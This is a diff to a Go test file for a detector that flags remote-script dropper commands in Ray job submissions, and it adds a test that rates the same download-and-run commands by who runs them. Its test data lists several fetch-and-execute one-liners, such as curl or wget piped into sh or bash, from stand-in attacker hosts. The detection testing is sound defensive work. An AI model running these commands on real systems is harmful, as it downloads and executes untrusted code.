@@ -12,6 +12,7 @@ import (
 	"github.com/raytap/raytap/decoders/http"
 	"github.com/raytap/raytap/decoders/ray"
 	"github.com/raytap/raytap/detectors"
+	"github.com/raytap/raytap/detectors/command"
 )
 
 // hop is one submission on the wire.
@@ -195,7 +196,6 @@ func TestDroppers(t *testing.T) {
 		"curl http://198.51.100.77/x.sh|sh",
 		"wget -qO- http://203.0.113.9/rondo.wns.sh|sh",
 		"id; curl -fsSL http://evil.example/run | sudo bash -s -- a",
-		"curl -s https://raw.githubusercontent.com/a/b/refs/heads/main/run.sh | bash",
 		"curl -s http://198.51.100.77/x.gz | gunzip | bash",
 		"bash -c \"$(curl -fsSL http://198.51.100.77/x)\"",
 		"bash <(curl -s http://198.51.100.77/x)",
@@ -246,12 +246,28 @@ func TestDroppers(t *testing.T) {
 	} {
 		f := find(watch(t, ran(dev, head, curl, job(cmd))), "jobsubmit/dropper")
 		if f == nil || f.Severity != detectors.High || f.Outcome != detectors.Succeeded {
-			v := judge(ray.Interpret(ran(dev, head, curl, job(cmd)).tx()), nil)
-			t.Errorf("%s\n\tscore %d %+v", cmd, v.score(), v.found)
+			v := assess(command.New(nil, nil), ray.Interpret(ran(dev, head, curl, job(cmd)).tx()))
+			t.Errorf("%s\n\tscore %d %+v", cmd, v.Score(), v.Facts)
 			continue
 		}
 		if f = find(watch(t, ran(attacker, head, curl, job(cmd))), "jobsubmit/dropper"); f.Severity != detectors.Critical {
 			t.Errorf("%s: %s from outside", cmd, f.Severity)
+		}
+	}
+}
+
+// A script of somebody's that is run by one of ours is for the record; run by somebody outside it is an attack.
+func TestScriptsFromRepositoriesByWhoRunsThem(t *testing.T) {
+	for _, cmd := range []string{
+		"curl -s https://raw.githubusercontent.com/a/b/refs/heads/main/run.sh | bash",
+		"curl -fsSL https://install.vendor.example/x.sh | sh",
+		"bash <(wget -qO- https://gitlab.com/a/b/-/raw/main/setup.sh)",
+	} {
+		if f := find(watch(t, ran(dev, head, curl, job(cmd))), "jobsubmit/dropper"); f == nil || f.Severity != detectors.Low {
+			t.Errorf("%s from inside: %+v", cmd, f)
+		}
+		if f := find(watch(t, ran(attacker, head, curl, job(cmd))), "jobsubmit/dropper"); f == nil || f.Severity != detectors.Critical {
+			t.Errorf("%s from outside: %+v", cmd, f)
 		}
 	}
 }
@@ -523,13 +539,13 @@ func FuzzJudge(f *testing.F) {
 		c.RuntimeEnv.Loads = []ray.Param{{Name: name, Value: value}}
 		c.RuntimeEnv.Commands = []ray.Param{{Name: name, Value: value}}
 		c.RuntimeEnv.PyExec, c.RuntimeEnv.Image = value, uri
-		v := judge(c, nil)
-		if len(v.found) > maxFound || len(v.decoded) > maxBlobs {
+		v := assess(command.New(nil, nil), c)
+		if len(v.Facts) > 64 || len(v.Decoded) > 64 {
 			t.Error("a bound does not hold")
 		}
-		for _, x := range v.found {
-			if len(x.what) > maxShown+8 {
-				t.Errorf("%s: %d bytes", x.name, len(x.what))
+		for _, x := range v.Facts {
+			if len(x.What) > 512 {
+				t.Errorf("%s: %d bytes", x.Name, len(x.What))
 			}
 		}
 	})
